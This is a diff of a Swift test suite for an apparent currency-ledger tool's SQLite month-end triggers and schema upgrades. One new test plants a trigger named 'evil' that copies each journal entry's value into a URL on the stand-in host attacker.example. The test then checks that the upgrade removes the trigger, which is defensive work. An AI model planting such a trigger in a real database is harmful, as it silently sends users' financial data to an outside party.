@@ -4,7 +4,10 @@ import Testing
 /// The month ends the store keeps beside the journal (what `total by month` reads): the
 /// same answers as a seek of the journal for each month's last day, however the journal
 /// was written (saves, dated sets, a small and a large import, rows changed and removed
-/// with the sqlite3 shell); `check` comparing the two; damage to them named.
+/// with the sqlite3 shell); `check` comparing the two; damage to them named. The month
+/// ends are derived from the journal by its triggers: a store whose month ends were
+/// written by hand answers from them until `check` names them, and the next change of a
+/// month's entries writes that month's row again.
 @Suite struct MonthEndTests {
   let coffer = try! CofferProcess()
   var database: String { coffer.home + "/months.db" }
@@ -20,13 +23,6 @@ import Testing
 
   func sqlite(_ sql: String) throws -> Outcome {
     try coffer.run([database, sql], binary: "/usr/bin/sqlite3")
-  }
-
-  /// Makes the month cache's row of `month` (`YYYYMM`) unreadable (its checksum fails): a
-  /// series that reaches it reads the month ends one row at a time instead, and meets
-  /// their damage.
-  func breakMonthCache(_ month: Int) throws {
-    #expect(try sqlite("INSERT OR REPLACE INTO journal_month_cache VALUES (\(month), x'00')").status == 0)
   }
 
   /// The last day of each month from January 2015 to December 2025.
@@ -92,8 +88,8 @@ import Testing
     #expect(try sqlite("UPDATE journal SET effective = effective - 40 WHERE id IN (\(some("AUD")))").status == 0)
     #expect(
       try sqlite(
-        "INSERT INTO journal (entered, utc_offset, effective, code, old, new) "
-          + "SELECT entered, utc_offset, effective + 3, code, new, '4242' FROM journal "
+        "INSERT INTO journal (entered, utc_offset, effective, code, place, old, new) "
+          + "SELECT entered, utc_offset, effective + 3, code, place, new, '4242' FROM journal "
           + "WHERE code = 'GBP' AND effective < 20089 LIMIT 30"
       ).status == 0)
     (byMonth, oneByOne) = try bothWays()
@@ -102,75 +98,47 @@ import Testing
     #expect(checked.status == 0, "\(checked)")
   }
 
-  /// Stand-ins for the triggers of schemas 5 and 6 (their bodies `SELECT 1`): their names
-  /// are what the upgrade must drop.
-  static let olderTriggers = [
-    5: ["journal_month_end_insert", "journal_month_end_delete", "journal_month_end_update"],
-    6: [
-      "journal_month_end_insert", "journal_month_end_delete", "journal_month_end_update_old",
-      "journal_month_end_update_new",
-    ],
-  ]
-
-  @Test(arguments: [5, 6])
-  func aStoreOfAnOlderSchemaGetsTheShorterTriggersWhichKeepItsMonthEndsAsBefore(schema: Int) throws {
-    #expect(try run("set USD 10 at 2020-03-05; set USD 20 at 2020-03-20; set JPY 500 at 2021-07-09").status == 0)
-    // The older schema's triggers, its version and migrations (this one's triggers and
-    // view dropped).
-    let dropped = """
-      DROP TRIGGER journal_month_end_insert; DROP TRIGGER journal_month_end_delete;
-      DROP TRIGGER journal_month_end_update; DROP TRIGGER journal_month_end_recompute;
-      DROP VIEW journal_month_touch; DROP TABLE journal_month_cache;
-      """
-    let made = Self.olderTriggers[schema, default: []].map { name in
-      let event = name.hasSuffix("insert") ? "INSERT" : name.hasSuffix("delete") ? "DELETE" : "UPDATE"
-      return "CREATE TRIGGER \(name) AFTER \(event) ON journal BEGIN SELECT 1; END;"
-    }
-    let versioned =
-      "DELETE FROM grdb_migrations WHERE identifier >= 'v\(schema + 1):'; PRAGMA user_version = \(schema);"
-    let olderSchema = ([dropped] + made + [versioned]).joined(separator: "\n")
-    #expect(try sqlite(olderSchema).status == 0)
-    #expect(try sqlite("SELECT count(*) FROM grdb_migrations WHERE identifier LIKE 'v7:%'").stdout == "0\n")
-    let rows = "SELECT code, month, effective, id, new FROM journal_month_end ORDER BY code, month"
-    let before = try sqlite(rows).stdout
-    let opened = try run("check")
+  /// A store of schema 8 (its month ends and month cache kept by triggers of its own),
+  /// with a trigger another program added: opened, it is upgraded in one step (a copy kept
+  /// beside it), its rows carried over, its old triggers, views and derived tables gone,
+  /// and its answers the same; the new triggers keep the month ends.
+  @Test func aStoreOfSchemaEightIsUpgradedWithItsRowsAndNoneOfItsTriggers() throws {
+    let old = coffer.home + "/v8.db"
+    let made = try coffer.run(
+      [
+        old,
+        OlderStores.schemaEight(
+          rows: """
+            INSERT INTO setting VALUES ('local', 'HKD');
+            INSERT INTO journal (entered, utc_offset, effective, code, old, new) VALUES
+              ('2020-03-05T10:00:00Z', 480, 18326, 'USD', '0', '10'),
+              ('2020-03-20T10:00:00Z', 480, 18341, 'USD', '10', '20'),
+              ('2021-07-09T10:00:00Z', 480, 18817, 'JPY', '0', '500');
+            INSERT INTO holding VALUES ('USD', '20'), ('JPY', '500');
+            CREATE TRIGGER evil AFTER INSERT ON journal BEGIN
+              INSERT INTO rate_source (name, url, currencies) VALUES ('x' || new.id, 'http://attacker.example/?' || new.new, '');
+            END;
+            """),
+      ], binary: "/usr/bin/sqlite3")
+    #expect(made.status == 0, "\(made)")
+    let answers = "print amount(USD) amount(JPY) amount_at(USD, 2020-03-10) amount_at(JPY, 2021-07-08); local"
+    let opened = try coffer.run(["--db", old, "-c", answers + "; check; rates sources"])
     #expect(opened.status == 0, "\(opened)")
-    #expect(opened.stderr.contains("a copy as it was is kept in \(database).before-v8"), "\(opened)")
-    let triggers = try sqlite("SELECT type, name FROM sqlite_master WHERE type IN ('trigger', 'view') ORDER BY name")
-    #expect(
-      triggers.stdout
-        == "trigger|journal_month_end_delete\ntrigger|journal_month_end_insert\n"
-        + "trigger|journal_month_end_recompute\ntrigger|journal_month_end_replace\n"
-        + "trigger|journal_month_end_replace_id\ntrigger|journal_month_end_update\nview|journal_month_touch\n")
-    #expect(try sqlite("PRAGMA user_version").stdout == "8\n")
-    #expect(try sqlite(rows).stdout == before)
-    // They keep the month ends: an entry changed, moved to another month, removed, added.
-    #expect(try sqlite("UPDATE journal SET new = '25' WHERE code = 'USD' AND new = '20'").status == 0)
-    #expect(try sqlite("UPDATE journal SET effective = effective + 40 WHERE code = 'USD' AND new = '10'").status == 0)
-    #expect(try sqlite("DELETE FROM journal WHERE code = 'JPY'").status == 0)
-    #expect(
-      try sqlite(
-        "INSERT INTO journal (entered, utc_offset, effective, code, old, new) "
-          + "VALUES ('2024-01-01T00:00:00Z', 0, 19000, 'GBP', '0', '7')"
-      ).status == 0)
-    // (The holdings now disagree with the journal, which `check` names as well.)
-    let checked = try run("check")
-    #expect(!checked.stdout.contains("journal_month_end"), "\(checked)")
-    #expect(checked.stdout.contains("holding"), "\(checked)")
-    #expect(
-      try sqlite(
-        "SELECT code, month, new FROM journal_month_end WHERE code IN ('USD', 'JPY', 'GBP') ORDER BY code, month"
-      )
-      .stdout == "GBP|202201|7\nUSD|202003|25\nUSD|202004|10\n")
-    // An entry of the calendar's last month, changed: its row follows (a recompute that
-    // stepped to the month after 9999-12 found none and dropped it).
-    #expect(
-      try sqlite(
-        "INSERT INTO journal (entered, utc_offset, effective, code, old, new) "
-          + "VALUES ('2024-01-01T00:00:00Z', 0, 2932890, 'SEK', '0', '5'); "
-          + "UPDATE journal SET new = '6' WHERE code = 'SEK' AND effective = 2932890; "
-          + "SELECT month, new FROM journal_month_end WHERE code = 'SEK'"
-      ).stdout == "999912|6\n")
+    #expect(opened.stdout.hasPrefix("20\n500\n10\n0\nHKD Hong Kong Dollar 港币\n"), "\(opened)")
+    #expect(opened.stderr.contains("a copy as it was is kept in \(old).before-v9"), "\(opened)")
+    #expect(!opened.stdout.contains("attacker"), "\(opened)")
+    let objects = try coffer.run(
+      [old, "SELECT type || ' ' || name FROM sqlite_master ORDER BY 1"], binary: "/usr/bin/sqlite3")
+    for gone in ["evil", "journal_month_cache", "journal_month_end_insert", "journal_month_touch", "grdb_migrations"] {
+      #expect(!objects.stdout.contains(gone), "\(objects)")
+    }
+    #expect(objects.stdout.contains("trigger journal_inserted"), "\(objects)")
+    #expect(try coffer.run([old, "PRAGMA user_version"], binary: "/usr/bin/sqlite3").stdout == "9\n")
+    // The new triggers keep the month ends: an entry added, one changed.
+    #expect(try coffer.run(["--db", old, "-c", "set USD 25 at 2020-03-25; set JPY 600 at 2021-07-31"]).status == 0)
+    let rows = try coffer.run(
+      [old, "SELECT code, month, new FROM journal_month_end ORDER BY code, month"], binary: "/usr/bin/sqlite3")
+    #expect(rows.stdout == "JPY||202107|600\nUSD||202003|25\n".replacingOccurrences(of: "||", with: "|"), "\(rows)")
   }
 
   /// SQLite removes a row that a REPLACE replaces without firing the delete trigger (with
@@ -178,7 +146,7 @@ import Testing
   /// would keep it: such writes are refused, and the month ends stay the journal's.
   @Test func aWriteThatWouldReplaceAJournalRowIsRefusedAndTheMonthEndsStayRight() throws {
     #expect(try run("set USD 10 at 2020-03-05; set USD 20 at 2020-03-20; set USD 30 at 2020-12-31").status == 0)
-    let columns = "id, entered, utc_offset, effective, code, old, new"
+    let columns = "id, entered, utc_offset, effective, code, place, old, new"
     let replacements = [
       // The last entry of March moved to February under its own id.
       "REPLACE INTO journal (\(columns)) SELECT \(columns.replacingOccurrences(of: "effective", with: "18302")) "
@@ -204,14 +172,15 @@ import Testing
       let refused = try sqlite(replacement)
       #expect(refused.status != 0, "\(replacement)")
       #expect(
-        refused.stderr.contains("a journal row may not take the id of another, nor an id below 1"), "\(refused)")
+        refused.stderr.contains("a journal entry keeps its id: it is not replaced, nor given another's")
+          || refused.stderr.contains("CHECK constraint failed: id > 0"), "\(refused)")
       #expect(try sqlite(rows).stdout == monthEnds)
       #expect(try sqlite("SELECT * FROM journal ORDER BY id").stdout == journal)
     }
     // A row under an id of its own (2020-03-30), written by REPLACE, is an insert as any other.
     let added =
-      "REPLACE INTO journal (id, entered, utc_offset, effective, code, old, new) "
-      + "VALUES (1000, '2024-01-01T00:00:00Z', 0, 18351, 'USD', '20', '40')"
+      "REPLACE INTO journal (id, entered, utc_offset, effective, code, place, old, new) "
+      + "VALUES (1000, '2024-01-01T00:00:00Z', 0, 18351, 'USD', '', '20', '40')"
     #expect(try sqlite(added).status == 0)
     #expect(try sqlite("SELECT new FROM journal_month_end WHERE code = 'USD' AND month = 202003").stdout == "40\n")
     let checked = try run("check")
@@ -226,85 +195,56 @@ import Testing
     let checked = try run("check")
     #expect(checked.status == 3)
     #expect(checked.stdout.contains("damaged: journal_month_end (code 'USD', month 2020-03): "), "\(checked)")
-    // A value Coffer would not write is named by the read that meets it. A series read
-    // from the month cache, built from the journal, does not meet it and answers as the
-    // journal says; with the cache unreadable, the series reads the month ends.
+    // A value Coffer would not write is named by the series that reads it.
     let series = "total by month from 2020-01-31 to 2020-12-31"
-    let sound = try run(series)
     #expect(try sqlite("UPDATE journal_month_end SET new = '1,200' WHERE code = 'USD' AND month = 202005").status == 0)
-    #expect(try run(series) == sound)
-    try breakMonthCache(202001)
     let read = try run(series)
     #expect(read.status == 3)
     #expect(read.stderr.contains("journal_month_end (code 'USD', month 2020-05): "), "\(read)")
-    // Damage to the journal row a month end copies is named as the journal's.
+    // Damage to the journal row a month end copies is named as the journal's (a change of
+    // a row writes its month again).
     #expect(try sqlite("UPDATE journal SET new = 'x' WHERE new = '20'").status == 0)
     let journal = try run("total by month from 2020-01-31 to 2020-12-31")
     #expect(journal.status == 3)
-    #expect(journal.stderr.contains("journal row "), "\(journal)")
+    #expect(journal.stderr.contains("journal_month_end (code 'USD', month 2020-03): new 'x'"), "\(journal)")
+    #expect(try run("check").stdout.contains("damaged: journal row "))
   }
 
-  @Test func aReadNamesAMonthEndThatIsMissingOrMovedWhereNoReadMeetsIt() throws {
+  /// A month end removed or moved by hand: `check` names it, and the journal's triggers
+  /// write it again at the next change of that month's entries.
+  @Test func aMonthEndRemovedOrMovedByHandIsNamedByCheckAndWrittenAgain() throws {
     #expect(
       try run("set USD 5 at 2019-12-31; set USD 10 at 2020-03-05; set USD 20 at 2020-05-20; set USD 30 at 2020-08-02")
         .status == 0)
     let series = "total by month from 2020-01-31 to 2020-12-31 --format csv"
     let sound = try run(series)
     #expect(sound.status == 0, "\(sound)")
-    let spring = "total by month from 2020-01-31 to 2020-04-30 --format csv"
-    let soundSpring = try run(spring)
-    // May's row deleted: April's balance would stand for May, June and July without a word.
-    // (The month cache, built from the journal, answers as before; unreadable, it leaves
-    // the series to the month ends.)
     #expect(try sqlite("DELETE FROM journal_month_end WHERE code = 'USD' AND month = 202005").status == 0)
-    #expect(try run(series) == sound)
-    try breakMonthCache(202001)
-    let deleted = try run(series)
+    let deleted = try run("check")
     #expect(deleted.status == 3)
-    #expect(deleted.stderr.contains("journal_month_end (code 'USD', month 2020-05): is missing"), "\(deleted)")
-    // The journal's triggers write it back as any change of its entries does (and mark
-    // every month of those entries stale in the month cache: the series seeks them).
+    #expect(deleted.stdout.contains("journal_month_end (code 'USD', month 2020-05)"), "\(deleted)")
     #expect(try sqlite("UPDATE journal SET new = new WHERE code = 'USD'").status == 0)
     #expect(try run(series) == sound)
-    // Moved under the 13th month of another year, which no read of 2020 meets.
+    #expect(try run("check").status == 0)
     #expect(try sqlite("UPDATE journal_month_end SET month = 199913 WHERE code = 'USD' AND month = 202005").status == 0)
-    let moved = try run(series)
+    let moved = try run("check")
     #expect(moved.status == 3)
-    #expect(moved.stderr.contains("journal_month_end (code 'USD', month 2020-05): is missing"), "\(moved)")
-    // A series that May's row does not stand in answers as before.
-    #expect(try run(spring) == soundSpring)
-    // `check` names both rows.
-    let checked = try run("check")
-    #expect(checked.status == 3)
-    #expect(checked.stdout.contains("journal_month_end (code 'USD', month 2020-05)"), "\(checked)")
-    #expect(checked.stdout.contains("journal_month_end (code 'USD', month 1999-13)"), "\(checked)")
+    #expect(moved.stdout.contains("journal_month_end (code 'USD', month 2020-05)"), "\(moved)")
+    #expect(moved.stdout.contains("journal_month_end (code 'USD', month 1999-13)"), "\(moved)")
   }
 
-  @Test func aMonthKeyThatIsARealNumberIsNamedByTheSeriesThatReachesIt() throws {
+  /// The month ends' table is STRICT: a month that is not a whole number cannot be
+  /// written into it at all.
+  @Test func aMonthKeyThatIsNotAWholeNumberCannotBeWritten() throws {
     #expect(try run("set USD 10 at 2020-03-05; set USD 20 at 2020-05-20").status == 0)
-    let series = "total by month from 2020-01-31 to 2020-12-31 --format csv"
-    let sound = try run(series)
-    #expect(sound.status == 0, "\(sound)")
-    // Rows that sort after the series, a read of 2020 stops before: one keyed by text
-    // (SQLite sorts text after every number), then one keyed by a real number.
-    for month in ["'June'", "202106.5"] {
+    for month in ["'June'", "202106.5", "NULL"] {
       let copy = """
-        INSERT INTO journal_month_end (code, month, effective, id, new)
-          SELECT code, \(month), effective, id, new FROM journal_month_end WHERE code = 'USD' AND month = 202005
+        INSERT INTO journal_month_end (code, place, month, effective, id, new)
+          SELECT code, place, \(month), effective, id, new FROM journal_month_end WHERE code = 'USD' AND month = 202005
         """
-      #expect(try sqlite(copy).status == 0)
-      #expect(try run(series) == sound, "\(month)")
+      #expect(try sqlite(copy).status != 0, "\(month)")
     }
-    // A series that reaches it names it, when it reads the month ends (the month cache
-    // answers 2021 from the journal, as before).
-    let year = "total by month from 2021-01-31 to 2021-12-31"
-    let cached = try run(year)
-    #expect(cached.status == 0 && cached.stdout.contains("2021-06-30"), "\(cached)")
-    try breakMonthCache(202101)
-    let later = try run(year)
-    #expect(later.status == 3)
-    #expect(later.stderr.contains("journal_month_end (code 'USD', month the real number 202106.5)"), "\(later)")
-    #expect(later.stdout.isEmpty, "\(later)")
+    #expect(try run("check").status == 0)
   }
 
   @Test func aSessionsSeriesHasTheRatesAnotherSessionImportedMeanwhile() throws {
